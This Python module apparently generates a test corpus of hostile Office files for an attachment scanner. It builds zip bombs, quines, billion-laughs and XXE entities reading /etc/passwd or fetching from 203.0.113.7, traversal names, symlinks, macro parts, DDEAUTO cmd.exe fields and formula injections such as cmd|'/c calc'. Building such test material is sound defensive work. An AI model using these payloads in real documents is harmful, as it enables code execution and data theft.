"""Office documents that want to do harm: archives that lie, parts that run, fetch or explode."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.attachments.corpus.making import (
    CANARY,
    MAIN,
    document_of,
    office,
    office_parts,
    packed,
    relation,
    relations,
    types_of,
)

OFFICE = ("docx", "xlsx", "pptx")
Made = Iterator[tuple[str, bytes] | tuple[str, bytes, bytes]]


def folder_of(kind: str) -> str:
    return MAIN[kind][0].partition("/")[0]


def zip_bombs() -> Made:
    for kind in OFFICE:
        bomb = {f"{folder_of(kind)}/bomb.xml": b"<a>" + b" " * 20_000_000 + b"</a>"}
        yield f"{kind}-ratio-#.{kind}", office(kind, parts=bomb)
        many = {f"{folder_of(kind)}/p{number}.xml": b"<a/>" for number in range(1_001)}
        yield f"{kind}-members-#.{kind}", office(kind, parts=many)
        yield (
            f"{kind}-claims-#.{kind}",
            claiming(office(kind, parts={"word/z.xml": "<a/>"}), size=210_000_000),
        )
        yield f"{kind}-understates-#.{kind}", claiming(office(kind, parts=bomb), size=10)
        yield f"{kind}-overlap-#.{kind}", overlapping(kind)


def claiming(content: bytes, *, size: int) -> bytes:
    """The last member says of itself that it is ``size`` bytes."""
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<I", size) + content[at + 28 :]


def overlapping(kind: str) -> bytes:
    """Two entries of the directory point to the same bytes."""
    content = bytearray(office(kind, parts={"a/x.xml": "<a/>", "a/y.xml": "<a/>"}))
    first, second = (
        content.rindex(b"PK\x01\x02", 0, content.rindex(b"PK\x01\x02")),
        content.rindex(b"PK\x01\x02"),
    )
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def quines() -> Made:
    inner = packed({"again.zip": b""}, method=zipfile.ZIP_STORED)
    for kind in OFFICE:
        yield f"quine-#.{kind}", office(kind, parts={f"{folder_of(kind)}/again.xml": inner})
        yield f"quine-#.{kind}", packed({"r/r.zip": inner})


def nested() -> Made:
    for kind in OFFICE:
        for start in (
            b"PK\x03\x04",
            b"Rar!\x1a\x07",
            b"7z\xbc\xaf\x27\x1c",
            b"\x1f\x8b\x08",
            b"BZh9",
            b"MSCF",
        ):
            yield (
                f"nested-#.{kind}",
                office(kind, parts={f"{folder_of(kind)}/media/image1.png": start + bytes(40)}),
            )


def entities() -> Made:
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    square = f'<!ENTITY a "{"a" * 50_000}">'
    for kind in OFFICE:
        for declared, used in ((laughs, "&l9;"), (square, "&a;" * 1_000), ('<!ENTITY a "b">', "")):
            head = f'<?xml version="1.0"?><!DOCTYPE x [{declared}]>'
            yield (
                f"entities-#.{kind}",
                office(kind, parts={MAIN[kind][0]: document_of(kind, used, head=head)}),
            )
        head = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>'
        yield (
            f"entities-#.{kind}",
            office(kind, parts={MAIN[kind][0]: document_of(kind, "&a;", head=head).encode("utf-16")}),
        )


def external_entities() -> Made:
    for kind in OFFICE:
        for address in ("file:///etc/passwd", "http://203.0.113.7/x", "\\\\203.0.113.7\\x"):
            head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'
            yield f"xxe-#.{kind}", office(kind, parts={MAIN[kind][0]: document_of(kind, "&e;", head=head)})
        outside = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://203.0.113.7/x.dtd">'
        yield f"xxe-#.{kind}", office(kind, parts={MAIN[kind][0]: document_of(kind, head=outside)})
        yield f"xxe-#.{kind}", office(kind, parts={"_rels/.rels": outside + "<Relationships/>"})


def slips() -> Made:
    for kind in OFFICE:
        for name in ("../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "..\\evil.xml"):
            yield f"slip-#.{kind}", office(kind, parts={name: "<a/>"})


def links() -> Made:
    for kind in OFFICE:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            for name, content in office_parts(kind).items():
                archive.writestr(name, content)
            link = zipfile.ZipInfo(f"{folder_of(kind)}/link.xml")
            link.create_system, link.external_attr = 3, 0o120777 << 16
            archive.writestr(link, "/etc/passwd")
        yield f"link-#.{kind}", stream.getvalue()


def duplicates() -> Made:
    for kind in OFFICE:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            for name, content in office_parts(kind).items():
                archive.writestr(name, content)
            archive.writestr(MAIN[kind][0].upper(), document_of(kind))
        yield f"twice-#.{kind}", stream.getvalue()


def lying_directories() -> Made:
    for kind in OFFICE:
        plain = office(kind)
        yield f"lie-#.{kind}", plain.replace(MAIN[kind][0].encode(), MAIN[kind][0].encode().swapcase(), 1)
        yield f"lie-#.{kind}", b"PK\x03\x04" + bytes(26) + plain
        yield f"lie-#.{kind}", plain[:-2] + struct.pack("<H", 5) + b"hello"
        yield f"lie-#.{kind}", plain + b"<script>alert(1)</script>"
        yield f"lie-#.{kind}", wrong_sum(plain)


def wrong_sum(content: bytes) -> bytes:
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 16] + b"\1\2\3\4" + content[at + 20 :]


def macros() -> Made:
    macro_types = {
        "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    }
    for kind in OFFICE:
        folder = folder_of(kind)
        yield f"vba-#.{kind}", office(kind, parts={f"{folder}/vbaProject.bin": b"x"})
        yield f"vba-#.{kind}", office(kind, parts={f"{folder}/VBAPROJECT.BIN": b"x"})
        yield (
            f"type-#.{kind}",
            office(kind, parts={"[Content_Types].xml": types_of(kind, main=macro_types[kind])}),
        )
        yield f"ribbon-#.{kind}", office(kind, parts={"customUI/customUI14.xml": "<customUI/>"})
        default = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        yield f"default-#.{kind}", office(kind, parts={"[Content_Types].xml": types_of(kind, more=default)})
    yield "sheet-#.xlsx", office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"})
    for name in ("macro.docm", "macro.xlsm", "macro.pptm", "macro.xlsb", "macro.dotm"):
        yield name, office("docx")


def live_data() -> Made:
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    for said in (
        "DDEAUTO c:\\\\windows\\\\cmd.exe",
        'DDE "a" "b"',
        "INCLUDETEXT \\\\203.0.113.7\\a",
        "LINK Excel.Sheet x",
    ):
        run = f"<w:r {w}><w:instrText>{said}</w:instrText></w:r>"
        yield "dde-#.docx", office("docx", run)
        cut = "".join(
            f"<w:r {w}><w:instrText>{letter}</w:instrText></w:r>" for letter in said.replace("&", "")
        )
        yield "dde-cut-#.docx", office("docx", f'<w:r {w}><w:fldChar w:fldCharType="begin"/></w:r>{cut}')
        simple = said.replace('"', "")
        yield "dde-simple-#.docx", office("docx", f'<w:fldSimple {w} w:instr="{simple}"/>')
    for formula in (
        "cmd|'/c calc'!A0",
        "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
        'WEBSERVICE("http://203.0.113.7")',
        'EXEC("cmd")',
        'RTD("a",,"b")',
    ):
        cell = f"<x:sheetData><x:row><x:c><x:f>{formula}</x:f></x:c></x:row></x:sheetData>"
        yield "formula-#.xlsx", office("xlsx", parts={"xl/worksheets/sheet1.xml": document_of("xlsx", cell)})
    yield "connection-#.xlsx", office("xlsx", parts={"xl/connections.xml": "<connections/>"})
    yield "query-#.xlsx", office("xlsx", parts={"xl/queryTables/queryTable1.xml": "<a/>"})
    a = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    yield "program-#.pptx", office("pptx", f'<a:hlinkClick {a} action="ppaction://program"/>')
    yield "macro-#.pptx", office("pptx", f'<a:hlinkClick {a} action="ppaction://macro?name=x"/>')


def external() -> Made:
    for kind in OFFICE:
        main = MAIN[kind][0]
        folder, _, file = main.rpartition("/")
        for what in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath"):
            given = relations(relation(what, "http://203.0.113.7/a", external=True))
            yield f"external-#.{kind}", office(kind, parts={f"{folder}/_rels/{file}.rels": given})
        unc = relations(relation("hyperlink", "file://203.0.113.7/" + CANARY.decode(), external=True))
        yield f"unc-#.{kind}", office(kind, parts={f"{folder}/_rels/{file}.rels": unc}), CANARY
        script = relations(relation("hyperlink", "javascript:" + CANARY.decode(), external=True))
        yield f"script-#.{kind}", office(kind, parts={f"{folder}/_rels/{file}.rels": script}), CANARY
    yield "link-#.xlsx", office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<a/>"})


def objects() -> Made:
    o = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
    for kind in OFFICE:
        folder = folder_of(kind)
        yield (
            f"ole-#.{kind}",
            office(kind, parts={f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        )
        yield f"package-#.{kind}", office(kind, parts={f"{folder}/embeddings/a.xlsx": packed({"a": b"b"})})
        yield f"activex-#.{kind}", office(kind, parts={f"{folder}/activeX/activeX1.xml": "<a/>"})
        yield f"element-#.{kind}", office(kind, f'<o:OLEObject {o} ProgID="Package"/>')
        yield f"part-#.{kind}", office(kind, parts={f"{folder}/strange.dat": b"\0\1\2"})
        yield (
            f"hidden-ole-#.{kind}",
            office(kind, parts={f"{folder}/media/image1.png": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        )
